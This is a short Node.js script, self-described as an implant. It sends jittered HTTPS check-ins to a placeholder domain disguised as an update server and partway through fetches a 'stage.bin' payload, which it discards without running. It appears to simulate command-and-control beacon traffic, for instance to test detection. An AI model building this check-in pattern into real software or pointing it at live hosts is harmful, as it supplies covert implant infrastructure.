// An implant that checks in: a new TLS connection each time, every five seconds give or take, one larger download on the way.
// Usage: node beacon.mjs <check-ins>
import { randomBytes } from 'node:crypto';
import { request } from 'node:https';
import { setTimeout as pause } from 'node:timers/promises';

const server = 'beacon.update-check.example';
const checkIns = Number(process.argv[2]);
const intervalMillis = 5000;
const jitter = 0.08;
const downloadAt = Math.floor(checkIns * 0.6);

for (let turn = 1; turn <= checkIns; turn++) {
  if (turn === downloadAt) await ask('GET', '/61000/stage.bin', null);
  else await ask('POST', '/check', JSON.stringify({ id: 'a41f-09', turn, state: randomBytes(96).toString('hex') }));
  if (turn < checkIns) await pause(intervalMillis * (1 + jitter * (2 * Math.random() - 1)));
}

function ask(method, path, body) {
  return new Promise((resolve, reject) => {
    const sent = request({ host: server, method, path, agent: false, headers: { 'content-type': 'application/json' } }, (response) => {
      response.resume();
      response.on('end', resolve);
    });
    sent.on('error', reject);
    sent.end(body);
  });
}
